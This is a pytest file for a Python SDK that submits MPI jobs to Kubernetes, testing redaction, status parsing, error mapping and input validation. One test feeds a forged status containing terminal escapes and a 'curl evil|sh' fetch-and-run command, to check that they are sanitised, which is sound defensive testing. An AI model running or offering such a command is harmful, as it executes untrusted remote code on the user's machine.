"""Unit tests: pure functions and validation before any API call."""

import json
import pathlib
import re
import tempfile
from datetime import datetime, timezone
from typing import Any, ClassVar

import pytest
import yaml

from mpijob import (
    InvalidJobError,
    JobFailedError,
    JobStatus,
    MPIJob,
    MPIJobClient,
    QuotaExceededError,
    merge_logs,
    redact,
)
from mpijob import convert as conv
from mpijob.errors import from_api_exception

REPO = pathlib.Path(__file__).resolve().parents[3]


REDACT_VECTORS = json.loads((REPO / "pkg/logs/testdata/redact-vectors.json").read_text())


@pytest.mark.parametrize("v", REDACT_VECTORS, ids=[v["name"] for v in REDACT_VECTORS])
def test_redact_matches_the_cli(v):
    # The vectors the Go tests load too (pkg/logs/testdata).
    got, n = redact(v["in"])
    assert got == v["want"]
    assert n == v["count"]


def test_sdk_ships_the_clis_runtimes():
    # convert_legacy converts against these, as the CLI does against the embedded ones.
    shipped = sorted((pathlib.Path(__file__).resolve().parents[1] / "mpijob" / "runtimes").glob("*.yaml"))
    want = sorted((REPO / "config" / "runtimes").glob("mpi-*.yaml"))
    assert [p.name for p in shipped] == [p.name for p in want], "copy config/runtimes/mpi-*.yaml to sdk/python/mpijob/runtimes/"
    for a, b in zip(shipped, want, strict=True):
        assert a.read_bytes() == b.read_bytes(), f"sdk/python/mpijob/runtimes/{a.name} differs from config/runtimes: copy it"
    assert set(conv.shipped_runtimes()) == {p.stem for p in want}


def test_sdk_ships_the_clis_redaction_rules():
    shipped = (pathlib.Path(__file__).resolve().parents[1] / "mpijob" / "redact-rules.json").read_bytes()
    assert shipped == (REPO / "pkg/logs/redact-rules.json").read_bytes(), \
        "copy pkg/logs/redact-rules.json to sdk/python/mpijob/"


MERGE = json.loads((REPO / "pkg/logs/testdata/merge-vectors.json").read_text())["vectors"]


@pytest.mark.parametrize("v", MERGE, ids=[v["name"] for v in MERGE])
def test_merge_logs_matches_the_cli(v):
    # The vectors Go's logs.Merge is tested with (pkg/logs/testdata).
    got = merge_logs([(label, lines) for label, lines in v["streams"]])
    assert [f"{label} | {r}" for label, r in got] == v["want"]


def test_status_from_manager_annotation():
    obj = {"metadata": {"annotations": {
        "mpijob.dev/creator": "dev-a",
        "mpijob.dev/status": '{"phase":"Failed","reason":"WorkerOOMKilled","message":"Worker 1 was killed",'
                             '"nextStep":"Give it more memory","launcher":"Failed","workersReady":1,"workersTotal":2,'
                             '"startTime":"2026-11-22T10:00:00Z","completionTime":"2026-11-22T10:01:00Z"}'}}}
    s = JobStatus.from_trainjob(obj)
    assert (s.phase, s.reason, s.next_step, s.workers_ready, s.workers_total, s.creator) == \
        ("Failed", "WorkerOOMKilled", "Give it more memory", 1, 2, "dev-a")
    assert s.finished and s.from_manager
    assert s.completion_time == datetime(2026, 11, 22, 10, 1, tzinfo=timezone.utc)


def test_status_without_manager_reads_trainer_conditions():
    obj = {"metadata": {}, "spec": {"trainer": {"numNodes": 3}},
           "status": {"conditions": [{"type": "Complete", "status": "True", "lastTransitionTime": "2026-11-22T10:00:00Z"}]}}
    s = JobStatus.from_trainjob(obj)
    assert s.phase == "Succeeded" and not s.from_manager and s.workers_total == 3


def test_quota_error_carries_the_numbers():
    # The Status the API server returns for mpijob's quota denial: the vector the CLI's tests
    # read too (pkg/api/testdata/quota-denial.json, written by pkg/admission's test).
    class E:
        status = 403
        reason = "Forbidden"
        body = (REPO / "pkg/api/testdata/quota-denial.json").read_text()
    err = from_api_exception(E())
    assert isinstance(err, QuotaExceededError)
    assert [(c["resource"], c["requested"], c["quota"], c["in_use"], c["max_workers"]) for c in err.causes] == [
        ("memory (limits)", "66048Mi", "64Gi", "0", 7), ("memory", "65664Mi", "64Gi", "0", 7), ("nvidia.com/gpu", "24", "8", "0", 2)]
    assert (err.resource, err.requested, err.quota, err.in_use) == ("memory (limits)", "66048Mi", "64Gi", "0")


def test_admission_down_is_said_plainly():
    class Down:
        status = 500
        reason = "Internal Server Error"
        body = json.dumps({"kind": "Status", "status": "Failure", "reason": "InternalError", "code": 500,
                           "message": 'Internal error occurred: failed calling webhook "validate.trainjob.mpijob.dev": '
                                      'failed to call webhook: Post "https://127.0.0.1:9445/v": connect: connection refused'})
    err = from_api_exception(Down())
    assert type(err).__name__ == "MPIJobError"
    assert str(err).startswith("mpijob admission is unavailable, so no MPI job can be created or changed now")
    assert "validate.trainjob.mpijob.dev" in str(err)

    class NoPods(Down):
        body = json.dumps({"kind": "Status", "status": "Failure", "reason": "InternalError", "code": 500,
                           "message": 'Internal error occurred: failed calling webhook "creator.trainjob.mpijob.dev": '
                                      'failed to call webhook: Post "https://mpijob-webhook-service.mpijob-system.svc:443/m?timeout=10s": '
                                      'no endpoints available for service "mpijob-webhook-service"'})
    assert str(from_api_exception(NoPods())).startswith("mpijob admission is unavailable")


def test_errors_are_classified_from_the_status_not_the_sentence():
    class Invalid:
        status = 422
        reason = "Unprocessable Entity"
        body = json.dumps({"kind": "Status", "status": "Failure", "reason": "Invalid", "code": 422,
                           "message": "TrainJob.trainer.kubeflow.org \"x\" is invalid: spec.trainer.numNodes: Invalid value: 0",
                           "details": {"causes": [{"reason": "FieldValueInvalid", "field": "spec.trainer.numNodes"}]}})
    err = from_api_exception(Invalid())
    assert isinstance(err, InvalidJobError) and err.field == "spec.trainer.numNodes"

    class Sentence:
        # A message that mentions quota but carries no quota cause is not a quota denial.
        status = 403
        reason = "Forbidden"
        body = json.dumps({"kind": "Status", "reason": "Forbidden", "code": 403,
                           "message": 'trainjobs is forbidden: User "dev-b" cannot create resource "trainjobs" (quota team)'})
    assert not isinstance(from_api_exception(Sentence()), QuotaExceededError)


@pytest.fixture
def offline_client():
    # A kubeconfig for a server that is not there: validation must fail first.
    cfg = {"apiVersion": "v1", "kind": "Config", "current-context": "x",
           "clusters": [{"name": "x", "cluster": {"server": "https://127.0.0.1:1"}}],
           "users": [{"name": "x", "user": {"token": "t"}}],
           "contexts": [{"name": "x", "context": {"cluster": "x", "user": "x", "namespace": "ns1"}}]}
    with tempfile.NamedTemporaryFile("w", suffix=".yaml", delete=False) as f:
        yaml.safe_dump(cfg, f)
    return MPIJobClient(config_file=f.name)


def test_namespace_from_context(offline_client):
    assert offline_client.namespace == "ns1"


@pytest.mark.parametrize("kwargs,field", [
    ({"name": "Bad_Name"}, "name"),
    ({"name": "x" * 53}, "name"),
    ({"workers": 0}, "workers"),
    ({"workers": True}, "workers"),
    ({"slots_per_worker": 0}, "slots_per_worker"),
    ({"command": "mpirun hostname"}, "command"),
    ({"command": []}, "command"),
    ({"image": " "}, "image"),
    ({"resources_per_worker": {"memory": "lots"}}, "resources_per_worker"),
    ({"resources_per_worker": {"nvidia.com/gpu": -1}}, "resources_per_worker"),
    ({"env": {"A": 1}}, "env"),
    ({"env_from_secret": {"TOKEN": ""}}, "env_from_secret"),
    ({"env_from_secret": {"TOKEN": ":key"}}, "env_from_secret"),
    ({"env_from_secret": {"TOKEN": "My_Secret:key"}}, "env_from_secret"),
    ({"env_from_secret": ["TOKEN=api"]}, "env_from_secret"),
    ({"node_selector": ["zone=a"]}, "node_selector"),
    ({"volumes": [{"name": "data"}]}, "volumes"),
    ({"volumes": [{"name": "data", "mount_path": "/data"}]}, "volumes"),
])
def test_create_job_validates_before_any_api_call(offline_client, kwargs, field):
    args = {"name": "ok", "command": ["mpirun", "hostname"], "workers": 2}
    args.update(kwargs)
    with pytest.raises(InvalidJobError) as e:
        offline_client.create_job(**args)
    assert e.value.field == field
    assert field.split("_")[0] in str(e.value)


def test_get_logs_validates_before_any_api_call(offline_client):
    with pytest.raises(InvalidJobError, match="grep"):
        offline_client.get_logs("x", grep="(")
    with pytest.raises(InvalidJobError, match="worker"):
        offline_client.get_logs("x", worker=-1)


def _shipped_runtimes():
    out = {}
    for p in (REPO / "config" / "runtimes").glob("mpi-*.yaml"):
        rt = yaml.safe_load(p.read_text())
        out[rt["metadata"]["name"]] = rt
    return out


def _golden_manifests(path):
    text = path.read_text()
    if text.startswith("error: "):
        return None, text[len("error: "):].strip()
    return list(yaml.safe_load_all(text.split("# manifests\n", 1)[1])), None


@pytest.mark.parametrize("legacy", sorted((REPO / "pkg" / "legacy" / "testdata").glob("*.yaml")), ids=lambda p: p.stem)
def test_convert_legacy_matches_the_cli(legacy):
    """The SDK's converter gives the manifests the CLI's converter gives (its golden files)."""
    want, want_err = _golden_manifests(legacy.with_suffix(".golden"))
    if want_err is not None:
        with pytest.raises(InvalidJobError) as e:
            conv.convert(legacy.read_text(), _shipped_runtimes())
        assert str(e.value).split(":")[0] == want_err.split(":")[0]
        return
    res = conv.convert(legacy.read_text(), _shipped_runtimes())
    got = ([res["runtime"]] if res["runtime"] else []) + [res["trainJob"]]
    assert _normal(got) == _normal(want)
    # The report: "action  field  detail" lines, columns padded with spaces.
    report = legacy.with_suffix(".golden").read_text().split("# manifests\n")[0].splitlines()[1:]
    want_notes = [dict(zip(("action", "field", "detail"), re.split(r"\s{2,}", line.strip(), maxsplit=2), strict=False)) for line in report]
    assert res["notes"] == want_notes


def _normal(objs):
    def clean(o):
        if isinstance(o, dict):
            return {k: clean(v) for k, v in o.items() if v not in (None, {}, [])}
        if isinstance(o, list):
            return [clean(v) for v in o]
        return o
    return [clean(o) for o in objs]


def test_sdk_reference_is_current():
    """docs/sdk.md is generated from the docstrings: it must match them (`make docs`)."""
    import importlib.util
    spec = importlib.util.spec_from_file_location("gendoc", REPO / "sdk" / "python" / "tools" / "gendoc.py")
    gendoc = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(gendoc)
    assert (REPO / "docs" / "sdk.md").read_text() == gendoc.render(), "docs/sdk.md is stale: run `make docs`"


def test_wait_stops_on_a_job_that_can_never_start(offline_client, monkeypatch):
    status = {"phase": "Queued", "reason": "CannotStart",
              "message": "The job can never start: queue team-a/default has no quota for example.com/fpga.",
              "nextStep": "Check the resource name example.com/fpga.",
              "nextSteps": ["Check the resource name example.com/fpga.", "Or ask an administrator."],
              "launcher": "NotCreated", "workersReady": 0, "workersTotal": 1}
    obj = {"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob",
           "metadata": {"name": "fpga", "namespace": "ns1", "annotations": {"mpijob.dev/status": json.dumps(status)}},
           "spec": {"runtimeRef": {"name": "mpi-openmpi"}, "trainer": {"numNodes": 1}}}
    monkeypatch.setattr(offline_client._backend, "_get", lambda name: obj)
    with pytest.raises(JobFailedError, match="job fpga can never reach Running: CannotStart") as e:
        offline_client.wait_for_job("fpga", phases=["Running"], timeout=30, poll_interval=0.01)
    assert e.value.status.next_steps == status["nextSteps"]
    # Waiting for the phase it is in returns it.
    monkeypatch.setattr(offline_client._backend, "_hosts_ranks", lambda obj: {})
    assert offline_client.wait_for_job("fpga", phases=["Queued"], timeout=30).status.reason == "CannotStart"


def test_slots_and_gpus_from_the_managers_status():
    status = {"phase": "Running", "slotsPerWorker": 4, "gpusPerWorker": "1 amd.com/gpu", "workersTotal": 2}
    obj = {"metadata": {"name": "amd", "namespace": "team-b", "annotations": {"mpijob.dev/status": json.dumps(status)}},
           "spec": {"runtimeRef": {"name": "amd"}, "trainer": {"numNodes": 2}}}
    job = MPIJob.from_trainjob(obj)
    assert (job.slots_per_worker, job.status.gpus_per_worker) == (4, "1 amd.com/gpu")


RUNTIME_NOT_SEEN = json.loads((REPO / "pkg/jobspec/testdata/runtime-not-seen.json").read_text())["vectors"]


@pytest.mark.parametrize("v", RUNTIME_NOT_SEEN, ids=[str(i) for i in range(len(RUNTIME_NOT_SEEN))])
def test_runtime_not_seen_matches_the_cli(v):
    # The vectors the Go tests load too (pkg/jobspec/testdata).
    from mpijob import jobspec
    assert jobspec.runtime_not_seen(v["error"]) == v["retry"]


class _FlakyCustom:
    """CustomObjectsApi stand-in: Trainer's webhook refuses the TrainJob `refusals` times
    because its cache has not seen the job's runtime yet; records every call."""

    def __init__(self, refusals, other=None):
        self.refusals, self.other, self.calls = refusals, other, []

    def create_namespaced_custom_object(self, group, version, namespace, plural, body, **kwargs):
        from kubernetes.client.rest import ApiException
        self.calls.append(plural)
        if plural == "trainjobs":
            if self.other is not None:
                e = ApiException(status=422, reason="Unprocessable Entity")
                e.body = self.other
                raise e
            if self.refusals > 0:
                self.refusals -= 1
                e = ApiException(status=403, reason="Forbidden")
                e.body = RUNTIME_NOT_SEEN[0]["error"]
                raise e
            return {**body, "metadata": {**body["metadata"], "uid": "u1"}}
        return body

    def patch_namespaced_custom_object(self, *args):
        self.calls.append("patch " + args[3])

    def delete_namespaced_custom_object(self, *args, **kwargs):
        self.calls.append("delete " + args[3])


def _offline_client(custom, core=None):
    """A client whose Kubernetes backend talks to stand-ins of the official client's APIs."""
    from mpijob.backends import KubernetesAPI, KubernetesBackend
    return MPIJobClient(backend=KubernetesBackend(KubernetesAPI("team-a", custom, core)))


def test_create_waits_for_trainer_to_see_the_jobs_runtime(monkeypatch):
    monkeypatch.setattr("time.sleep", lambda s: None)
    from mpijob import jobspec
    rt = {"metadata": {"name": "j", "labels": {jobspec.JOB_LABEL: "j"}}}
    tj = {"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "metadata": {"name": "j", "namespace": "team-a"}, "spec": {}}
    custom = _FlakyCustom(refusals=2)
    job = _offline_client(custom)._backend._create(jobspec.Job(train_job=tj, runtime=rt), dry_run=False)
    assert job.name == "j"
    assert custom.calls == ["trainingruntimes", "trainjobs", "trainjobs", "trainjobs", "patch trainingruntimes"]


def test_create_does_not_retry_other_refusals(monkeypatch):
    monkeypatch.setattr("time.sleep", lambda s: None)
    from mpijob import jobspec
    rt = {"metadata": {"name": "j", "labels": {jobspec.JOB_LABEL: "j"}}}
    tj = {"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "metadata": {"name": "j", "namespace": "team-a"}, "spec": {}}
    custom = _FlakyCustom(refusals=0, other=next(v["error"] for v in RUNTIME_NOT_SEEN if not v["retry"]))
    with pytest.raises(Exception) as e:
        _offline_client(custom)._backend._create(jobspec.Job(train_job=tj, runtime=rt), dry_run=False)
    assert "numNodes" in str(e.value)
    assert custom.calls == ["trainingruntimes", "trainjobs", "delete trainingruntimes"]


class _RecordingCustom(_FlakyCustom):
    """Serves the shipped runtimes and records the created objects."""

    def __init__(self):
        super().__init__(refusals=0)
        self.created = {}

    def list_namespaced_custom_object(self, *args, **kwargs):
        raise AssertionError("watched through the Watch stand-in only")

    def get_cluster_custom_object(self, group, version, plural, name):
        return yaml.safe_load((REPO / "config" / "runtimes" / f"{name}.yaml").read_text())

    def create_namespaced_custom_object(self, group, version, namespace, plural, body, **kwargs):
        self.created[plural] = body
        return super().create_namespaced_custom_object(group, version, namespace, plural, body, **kwargs)


def test_env_from_secret_keeps_the_value_out_of_the_job(monkeypatch):
    custom = _RecordingCustom()
    c = _offline_client(custom)
    c.create_job("s3", ["mpirun", "train"], workers=2, env={"BUCKET": "data", "TOKEN": "plain"},
                 env_from_secret={"AWS_SECRET_ACCESS_KEY": "s3-credentials:secret-key", "TOKEN": "api"})
    assert custom.created["trainjobs"]["spec"]["trainer"]["env"] == [
        {"name": "BUCKET", "value": "data"},
        {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "api", "key": "TOKEN"}}},
        {"name": "AWS_SECRET_ACCESS_KEY", "valueFrom": {"secretKeyRef": {"name": "s3-credentials", "key": "secret-key"}}},
    ]


@pytest.mark.parametrize("env,warn", [
    ({"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}, True),
    ({"DB_PASSWORD": "hunter2hunter2"}, True),
    ({"LR": "0.1", "DATA": "/mnt/data/imagenet"}, False),
])
def test_env_that_looks_like_a_secret_is_warned_about(env, warn):
    import warnings as w
    custom = _RecordingCustom()
    with w.catch_warnings(record=True) as caught:
        w.simplefilter("always")
        _offline_client(custom).create_job("j", ["mpirun", "train"], workers=1, env=env)
    msgs = [str(x.message) for x in caught if issubclass(x.category, UserWarning)]
    assert bool(msgs) == warn, msgs
    if warn:
        assert "env_from_secret" in msgs[0]
    # The job is created either way, with the value as given.
    assert {e["name"]: e["value"] for e in custom.created["trainjobs"]["spec"]["trainer"]["env"]} == env


JOB_OBJECTS = json.loads((REPO / "pkg/api/testdata/job-objects.json").read_text())["vectors"]


@pytest.mark.parametrize("v", JOB_OBJECTS, ids=[v["name"] for v in JOB_OBJECTS])
def test_is_job_object_matches_the_cli(v):
    # The vectors Go's api.IsJobObject is tested with (pkg/api/testdata).
    from mpijob import is_job_object
    assert is_job_object(v["job"], v["kind"], v["object"]) == v["belongs"]


def _k8s_event(kind, name, reason, message, ts, type_="Normal", count=1):
    from kubernetes import client as k
    return k.CoreV1Event(involved_object=k.V1ObjectReference(kind=kind, name=name), reason=reason, message=message,
                         type=type_, count=count, last_timestamp=ts, metadata=k.V1ObjectMeta(name=f"{name}.{reason}"))


class _FakeCore:
    def __init__(self, events):
        self.events = events

    def list_namespaced_event(self, namespace):
        from kubernetes import client as k
        return k.CoreV1EventList(items=list(self.events))


def test_get_events_keeps_the_jobs_own_oldest_first():
    t0 = datetime(2026, 11, 22, 10, 0, tzinfo=timezone.utc)
    from datetime import timedelta
    c = _offline_client(None)
    c._backend._api._core = _FakeCore([
        _k8s_event("Pod", "hello-node-0-1-abcde", "Started", "Started container node", t0 + timedelta(seconds=5)),
        _k8s_event("Pod", "hello-4-node-0-0-abcde", "Started", "not hello's", t0),
        _k8s_event("TrainJob", "hello", "Running", "Running on 2 Workers.", t0 + timedelta(seconds=9)),
        _k8s_event("Workload", "trainjob-hello-8f2k1", "QuotaReserved", "Quota reserved", t0 + timedelta(seconds=1)),
        _k8s_event("TrainJob", "hello-4", "Running", "not hello's either", t0),
    ])
    got = [(e.kind, e.object, e.reason) for e in c.get_events("hello")]
    assert got == [("Workload", "trainjob-hello-8f2k1", "QuotaReserved"), ("Pod", "hello-node-0-1-abcde", "Started"),
                   ("TrainJob", "hello", "Running")]


def _trainjob(status):
    return {"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob",
            "metadata": {"name": "hello", "namespace": "team-a", "annotations": {"mpijob.dev/status": json.dumps(status)} if status else {}},
            "spec": {"runtimeRef": {"name": "mpi-openmpi", "kind": "ClusterTrainingRuntime"}, "trainer": {"numNodes": 2}}}


class _FakeWatch:
    """k8s_watch.Watch stand-in: the first stream yields the given TrainJob states."""
    states: ClassVar[list[Any]] = []

    def stream(self, *args, **kwargs):
        states, _FakeWatch.states = _FakeWatch.states, []
        for st in states:
            yield {"type": "MODIFIED", "object": _trainjob(st)}

    def stop(self):
        pass


def test_watch_yields_phases_progress_and_events(monkeypatch):
    t0 = datetime(2026, 11, 22, 10, 0, tzinfo=timezone.utc)
    c = _offline_client(_RecordingCustom())
    c._backend._api._core = _FakeCore([_k8s_event("Pod", "hello-node-0-0-abcde", "Pulled", "image pulled", t0),
                         _k8s_event("Pod", "hello-4-node-0-0-abcde", "Pulled", "not hello's", t0)])
    monkeypatch.setattr(c._backend, "get_job", lambda name: MPIJob.from_trainjob(_trainjob(None)))
    _FakeWatch.states = [
        None,  # the manager has not written yet: no phase guessed
        {"phase": "Pending", "message": "", "workersTotal": 2},  # no message: not yielded
        {"phase": "GangScheduling", "message": "Waiting for 1 Worker to be scheduled.", "workersReady": 0, "workersTotal": 2},
        {"phase": "Starting", "message": "Workers are starting.", "workersReady": 1, "workersTotal": 2},
        {"phase": "Starting", "message": "Workers are starting.", "workersReady": 1, "workersTotal": 2},  # nothing new
        {"phase": "Running", "message": "Running on 2 Workers.", "workersReady": 2, "workersTotal": 2},
        {"phase": "Succeeded", "message": "The Launcher completed.", "workersReady": 0, "workersTotal": 2},
    ]
    monkeypatch.setattr("mpijob.backends.kube_api.k8s_watch.Watch", _FakeWatch)
    got = [(ev.kind, ev.message) for ev in c.watch("hello", timeout=30)]
    assert got == [
        ("submitted", "job hello on runtime mpi-openmpi"),
        ("scheduling", "Waiting for 1 Worker to be scheduled."),
        ("scheduling", "Workers are starting."),
        ("progress", "Workers ready 1/2"),
        ("running", "Running on 2 Workers."),
        ("progress", "Workers ready 2/2"),
        ("completed", "The Launcher completed."),
        ("event", "Normal Pulled (Pod hello-node-0-0-abcde): image pulled"),
    ]


def test_next_steps_use_the_sdks_calls():
    tj = _trainjob({"phase": "Failed", "reason": "WorkerOOMKilled", "message": "Worker 1 ran out of memory.",
                    "nextStep": "Raise the memory per Worker: `kubectl mpijob clone NAME NEW --workers 2`.",
                    "nextSteps": ["Raise the memory per Worker: `kubectl mpijob clone NAME NEW --workers 2`.",
                                  "Read what the ranks printed: `kubectl mpijob logs NAME --all`.",
                                  "Ask an administrator (`kubectl get localqueues` lists the queues)."]})
    s = JobStatus.from_trainjob(tj)
    assert s.next_step == 'Raise the memory per Worker: `client.clone_job("hello", "NEW", workers=2)`.'
    assert s.next_steps[1:] == ['Read what the ranks printed: `client.get_logs("hello", worker="all")`.',
                                "Ask an administrator (`kubectl get localqueues` lists the queues)."]


def test_every_next_step_command_of_the_diagnosis_has_sdk_words():
    # Drift check: each `kubectl mpijob VERB` the manager's diagnosis writes becomes an SDK call,
    # except the verbs the SDK has no call for.
    from mpijob.nextsteps import sdk_words
    src = "\n".join(p.read_text() for p in (REPO / "pkg" / "diagnose").glob("*.go") if not p.name.endswith("_test.go"))
    found = set(re.findall(r"kubectl mpijob ([a-z]+)", src))
    assert {"logs", "clone", "describe", "events"} <= found, found
    for verb in found - {"create", "list", "wait", "delete", "get"}:
        cmd = "runtimes list" if verb == "runtimes" else verb + " NAME"
        for text in (f"see `kubectl mpijob {cmd}`.", f"see kubectl mpijob {cmd}."):
            out = sdk_words(text, "hello")
            assert "kubectl mpijob" not in out and "client." in out, (verb, out)


def test_next_steps_that_name_the_job_become_calls_on_it():
    # The manager now names the job in its commands (clone pm-13485 pm-13485-2), not NAME NEW.
    from mpijob.nextsteps import sdk_words
    assert sdk_words("Use fewer: kubectl mpijob clone pm-13485 pm-13485-2 --workers 4.", "pm-13485") == \
        'Use fewer: client.clone_job("pm-13485", "pm-13485-2", workers=4).'
    assert sdk_words("Read it (`kubectl mpijob logs pm-13485 --worker N`).", "pm-13485") == \
        'Read it (`client.get_logs("pm-13485", worker=N)`).'


@pytest.mark.parametrize("call,field", [
    (lambda c: c.get_logs("a", until="2024-01-01"), "until"),
    (lambda c: c.get_logs("a", since="5 min"), "since"),
    (lambda c: c.get_logs("a", since=0), "since"),
    (lambda c: c.get_logs("a", since=True), "since"),
    (lambda c: c.wait_for_job("a", phases="Runing"), "phases"),
    (lambda c: c.wait_for_job("a", timeout=-1), "timeout"),
    (lambda c: c.delete_job("a", grace_period=-1), "grace_period"),
    (lambda c: c.delete_job("a", grace_period="5"), "grace_period"),
    (lambda c: c.delete_job("a", grace_period=True), "grace_period"),
    (lambda c: c.clone_job("a", "b", command="echo hi"), "command"),
    (lambda c: c.clone_job("a", "B"), "name"),
], ids=["until-str", "since-words", "since-0", "since-bool", "phase-typo", "timeout-negative", "grace-negative",
        "grace-str", "grace-bool", "clone-command-str", "clone-bad-name"])
def test_bad_arguments_are_typed_errors_before_any_api_call(offline_client, call, field):
    with pytest.raises(InvalidJobError) as e:
        call(offline_client)
    assert e.value.field == field, e.value


@pytest.mark.parametrize("call", [
    lambda c: c.get_job("a"),
    lambda c: c.get_logs("a", since="5m"),
    lambda c: c.wait_for_job("a", phases="Running", timeout=1),
    lambda c: list(c.watch("a", timeout=1)),
    lambda c: c.list_jobs(),
], ids=["get", "logs", "wait", "watch", "list"])
def test_an_unreachable_api_server_is_a_typed_error(offline_client, call):
    from mpijob import APIUnreachableError
    with pytest.raises(APIUnreachableError, match=r"https://127\.0\.0\.1:1.*kubeconfig context"):
        call(offline_client)


@pytest.mark.parametrize("since,want", [(90, 90), ("90s", 90), ("5m", 300), ("1h30m", 5400)])
def test_since_takes_seconds_and_durations(since, want):
    from mpijob.validation import seconds
    assert seconds("since", since) == want


class _DeleteRecorder(_FlakyCustom):
    def __init__(self):
        super().__init__(refusals=0)
        self.deleted = []

    def delete_namespaced_custom_object(self, group, version, namespace, plural, name, body=None):
        self.deleted.append((plural, name, body.grace_period_seconds))


class _PodDeleter:
    def __init__(self):
        self.calls = []

    def delete_collection_namespaced_pod(self, namespace, label_selector, grace_period_seconds):
        self.calls.append((namespace, label_selector, grace_period_seconds))


@pytest.mark.parametrize("grace,pods", [(0, [("team-a", "jobset.sigs.k8s.io/jobset-name=hello", 0)]), (5, [("team-a", "jobset.sigs.k8s.io/jobset-name=hello", 5)]), (None, [])])
def test_delete_grace_period_reaches_the_pods(grace, pods):
    custom, core = _DeleteRecorder(), _PodDeleter()
    c = _offline_client(custom)
    c._backend._api._core = core
    c.delete_job("hello", grace_period=grace, wait=False)
    assert custom.deleted == [("trainjobs", "hello", grace)]
    assert core.calls == pods


def test_phase_and_launcher_literals_are_gos_words():
    # pkg/api/testdata/vocabulary.json is checked against Go's constants by pkg/api's tests.
    from mpijob.types import LAUNCHER_STATES, PHASES
    vocab = json.loads((REPO / "pkg/api/testdata/vocabulary.json").read_text())
    assert list(PHASES) == vocab["phases"]
    assert [s for s in LAUNCHER_STATES if s] == vocab["launcherStates"]


SUGGEST = json.loads((REPO / "pkg/suggest/testdata/vectors.json").read_text())["vectors"]


@pytest.mark.parametrize("v", SUGGEST, ids=[v["name"] for v in SUGGEST])
def test_did_you_mean_matches_the_cli(v):
    # The vectors Go's suggest.Closest is tested with.
    from mpijob.suggest import closest
    assert closest(v["input"], v["candidates"]) == v["want"]


FALLBACK = json.loads((REPO / "pkg/api/testdata/fallback-status.json").read_text())["vectors"]


@pytest.mark.parametrize("v", FALLBACK, ids=[v["name"] for v in FALLBACK])
def test_fallback_status_matches_the_cli(v):
    # The vectors Go's api.StatusOf is tested with (pkg/api/testdata).
    s = JobStatus.from_trainjob(v["trainJob"])
    want = v["want"]
    assert not s.from_manager
    assert (s.phase, s.message, s.workers_total) == (want["phase"], want.get("message", ""), want.get("workersTotal", 0))
    got_done = s.completion_time.isoformat().replace("+00:00", "Z") if s.completion_time else None
    assert got_done == want.get("completionTime")


CLEAN = json.loads((REPO / "pkg/api/testdata/clean-text.json").read_text())["vectors"]


@pytest.mark.parametrize("v", CLEAN, ids=[v["name"] for v in CLEAN])
def test_clean_text_matches_the_cli(v):
    # The vectors Go's api.CleanText is tested with.
    from mpijob.types import clean_text
    assert clean_text(v["in"]) == v["out"]


def test_a_forged_status_reaches_no_terminal():
    forged = json.dumps({"phase": "Failed", "message": "\x1b[31mboom", "nextStep": "\x1b]0;x\x07curl evil|sh",
                         "nextSteps": ["\u202eabc"], "launcher": "Failed"})
    s = JobStatus.from_trainjob({"metadata": {"name": "j", "annotations": {"mpijob.dev/status": forged}}})
    assert (s.phase, s.message, s.next_step, s.next_steps) == ("Failed", "boom", "curl evil|sh", ["abc"])


STALE = json.loads((REPO / "pkg/api/testdata/stale-status.json").read_text())["vectors"]


@pytest.mark.parametrize("v", STALE, ids=[v["name"] for v in STALE])
def test_stale_status_matches_the_cli(v):
    # The vectors Go's api.ManagerStateOf and StaleNote are tested with.
    from mpijob.types import _time, manager_state, stale_note
    now = _time(v["now"])
    running, since = manager_state(v["lease"], now)
    assert running == v["running"]
    assert stale_note(running, since, _time(v["observed"]), now) == v["note"]


class _Cluster:
    """Stand-ins of CustomObjectsApi and CoreV1Api over a few objects in team-a: enough for
    the public methods' mocked-API tests (no cluster)."""

    def __init__(self, jobs=(), pods=(), logs=None):
        self.jobs = {j["metadata"]["name"]: j for j in jobs}
        self.runtimes = {n: yaml.safe_load((REPO / "config" / "runtimes" / f"{n}.yaml").read_text())
                         for n in ("mpi-openmpi", "mpi-openmpi-gpu", "mpi-intel")}
        self.pods, self.logs, self.created = list(pods), dict(logs or {}), []

    # CustomObjectsApi
    def get_namespaced_custom_object(self, group, version, namespace, plural, name):
        from kubernetes.client.rest import ApiException
        if plural == "trainjobs" and name in self.jobs:
            return self.jobs[name]
        raise ApiException(status=404, reason="Not Found")

    def list_namespaced_custom_object(self, group, version, namespace, plural, **kwargs):
        return {"items": list(self.jobs.values())}

    def get_cluster_custom_object(self, group, version, plural, name):
        from kubernetes.client.rest import ApiException
        if name in self.runtimes:
            return self.runtimes[name]
        raise ApiException(status=404, reason="Not Found")

    def list_cluster_custom_object(self, group, version, plural):
        return {"items": list(self.runtimes.values())}

    def create_namespaced_custom_object(self, group, version, namespace, plural, body, **kwargs):
        self.created.append((plural, body))
        return {**body, "metadata": {**body["metadata"], "uid": "u-" + body["metadata"]["name"]}}

    def patch_namespaced_custom_object(self, *args):
        pass

    # CoreV1Api
    def list_namespaced_pod(self, namespace, label_selector):
        from kubernetes import client as k
        job = label_selector.split("=", 1)[1]
        return k.V1PodList(items=[p for p in self.pods if p.metadata.labels["jobset.sigs.k8s.io/jobset-name"] == job])

    def read_namespaced_pod_log(self, name, namespace, **kwargs):
        return self.logs[name]


def _pod(job, role, index, created="2026-11-22T10:00:00Z"):
    from kubernetes import client as k
    return k.V1Pod(metadata=k.V1ObjectMeta(name=f"{job}-{role}-0-{index}-abcde", labels={
        "jobset.sigs.k8s.io/jobset-name": job, "jobset.sigs.k8s.io/replicatedjob-name": role,
        "batch.kubernetes.io/job-completion-index": str(index)}, creation_timestamp=datetime.fromisoformat(created.replace("Z", "+00:00"))))


def _status_job(name, status, runtime="mpi-openmpi", labels=None):
    tj = _trainjob(status)
    tj["metadata"]["name"] = name
    tj["spec"]["runtimeRef"]["name"] = runtime
    if labels:
        tj["metadata"]["labels"] = labels
    return tj


def test_get_and_list_jobs_and_runtimes_on_a_mocked_api():
    cluster = _Cluster(jobs=[_status_job("a", {"phase": "Running", "message": "Running on 2 Workers.", "workersReady": 2, "workersTotal": 2}),
